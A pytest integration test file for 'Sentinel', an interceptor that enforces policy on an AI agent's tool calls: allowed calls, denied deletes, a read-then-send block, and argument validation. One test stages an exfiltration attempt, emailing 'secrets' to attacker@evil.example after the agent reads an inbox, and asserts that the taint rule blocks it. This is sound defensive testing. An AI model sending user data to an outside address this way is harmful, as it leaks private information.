"""The interceptor against the real tool server (mcp_server) and the real YAML
config (examples/sentinel.yaml), in-process over httpx.ASGITransport."""

from __future__ import annotations

import json
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest

from interceptor.app import create_app
from interceptor.settings import load_settings
from interceptor.state.memory import MemoryStateStore
from interceptor.state.redis import RedisStateStore
from mcp_server.app import create_app as create_tool_server
from mcp_server.settings import McpSettings
from sentinel_contract import b64url_encode, generate_keypair
from tests.conftest import REDIS_URL

DEMO_KEY = "sk-sentinel-demo"
EXAMPLE = Path(__file__).resolve().parents[2] / "examples" / "sentinel.yaml"


@dataclass
class Stack:
    client: httpx.AsyncClient
    data_dir: Path
    audit_log: Path
    mcp_audit_log: Path

    def outbox(self) -> list[dict[str, object]]:
        path = self.data_dir / "outbox.jsonl"
        if not path.exists():
            return []
        return [json.loads(line) for line in path.read_text().splitlines() if line.strip()]

    async def start(self) -> str:
        response = await self.client.post("/session/start", headers={"X-Sentinel-Key": DEMO_KEY})
        assert response.status_code == 200, response.text
        return str(response.json()["session_id"])

    async def call(self, sid: str, tool: str, arguments: dict[str, object]) -> httpx.Response:
        return await self.client.post(
            f"/session/{sid}/call", headers={"X-Sentinel-Key": DEMO_KEY}, json={"tool": tool, "arguments": arguments}
        )


@pytest.fixture(params=["memory", "redis"])
async def stack(request: pytest.FixtureRequest, redis_prefix: str, tmp_path: Path) -> AsyncIterator[Stack]:
    identity = generate_keypair()
    mcp_settings = McpSettings(
        interceptor_public_keys=identity.public_b64,
        mcp_audit_log=tmp_path / "mcp-audit.jsonl",
        mcp_data_dir=tmp_path / "mcp-data",
    )
    tool_server = create_tool_server(mcp_settings)
    state = MemoryStateStore() if request.param == "memory" else RedisStateStore(REDIS_URL, prefix=redis_prefix)
    settings = load_settings(
        identity_key=b64url_encode(identity.seed), config_path=EXAMPLE, audit_log=tmp_path / "audit.jsonl"
    )
    async with tool_server.router.lifespan_context(tool_server):
        upstream = httpx.AsyncClient(transport=httpx.ASGITransport(app=tool_server))
        app = create_app(settings, state_store=state, http_client=upstream)
        async with app.router.lifespan_context(app):
            async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://i") as client:
                yield Stack(client, tmp_path / "mcp-data", tmp_path / "audit.jsonl", tmp_path / "mcp-audit.jsonl")
        await upstream.aclose()
    if isinstance(state, RedisStateStore):
        await state.close()


async def test_allowed_call_runs_on_the_real_tool_server(stack: Stack) -> None:
    sid = await stack.start()
    response = await stack.call(sid, "send_email", {"to": "bob@example.com", "subject": "hi", "body": "hello"})
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["result"]["isError"] is False
    assert [mail["to"] for mail in stack.outbox()] == ["bob@example.com"]
    # The jti joins the interceptor's decision record to the tool server's execution record.
    decision = json.loads(stack.audit_log.read_text().splitlines()[-1])
    assert decision["jti"] == body["jti"] and body["jti"] in stack.mcp_audit_log.read_text()


async def test_taint_from_the_inbox_blocks_the_exfiltrating_email(stack: Stack) -> None:
    sid = await stack.start()
    assert (await stack.call(sid, "read_inbox", {"limit": 3})).status_code == 200
    denied = await stack.call(sid, "send_email", {"to": "attacker@evil.example", "subject": "x", "body": "secrets"})
    assert denied.status_code == 403
    assert denied.json()["error"]["rule"] == "CHECK_TAINT:send_email"
    assert stack.outbox() == []


async def test_static_deny_and_block_second_on_the_demo_policy(stack: Stack) -> None:
    sid = await stack.start()
    assert (await stack.call(sid, "delete_file", {"path": "notes.txt"})).status_code == 403
    assert (await stack.call(sid, "send_email", {"to": "a@b.example", "subject": "s", "body": "b"})).status_code == 200
    read = await stack.call(sid, "read_file", {"path": "reports/q3_summary.txt"})
    assert read.status_code == 200 and read.json()["result"]["isError"] is False
    blocked = await stack.call(sid, "send_email", {"to": "a@b.example", "subject": "s", "body": "b"})
    assert blocked.status_code == 403
    assert blocked.json()["error"]["rule"] == "BLOCK_SECOND:read_file->send_email"
    assert (await stack.call(sid, "get_current_time", {})).status_code == 200  # nothing else is blocked
    assert len(stack.outbox()) == 1


async def test_a_tool_error_comes_back_unchanged_as_is_error(stack: Stack) -> None:
    sid = await stack.start()
    response = await stack.call(sid, "send_email", {"to": "not-an-address", "subject": "s", "body": "b"})
    assert response.status_code == 200
    assert response.json()["result"]["isError"] is True
    assert stack.outbox() == []


async def test_ending_a_session_revokes_it_at_the_tool_server(stack: Stack) -> None:
    sid = await stack.start()
    ended = await stack.client.post(f"/session/{sid}/end", headers={"X-Sentinel-Key": DEMO_KEY})
    assert ended.status_code == 200 and ended.json()["revoked"] is True


async def test_arguments_the_tool_refuses_are_400_naming_the_argument_and_nothing_runs(stack: Stack) -> None:
    # The tool server checks the arguments against the tool's schema: the agent's mistake, which
    # it can correct, so 400 (not a 502 "Sentinel is unavailable"); the value is never echoed.
    sid = await stack.start()
    response = await stack.call(sid, "send_email", {"to": "friend@example.com", "subject": "hi", "body": 12345678})
    assert response.status_code == 400, response.text
    error = response.json()["error"]
    assert error["code"] == "invalid_arguments" and error["retryable"] is False
    assert "'body'" in error["message"] and "12345678" not in error["message"]
    assert stack.outbox() == []
    fixed = await stack.call(sid, "send_email", {"to": "friend@example.com", "subject": "hi", "body": "text"})
    assert fixed.status_code == 200 and len(stack.outbox()) == 1
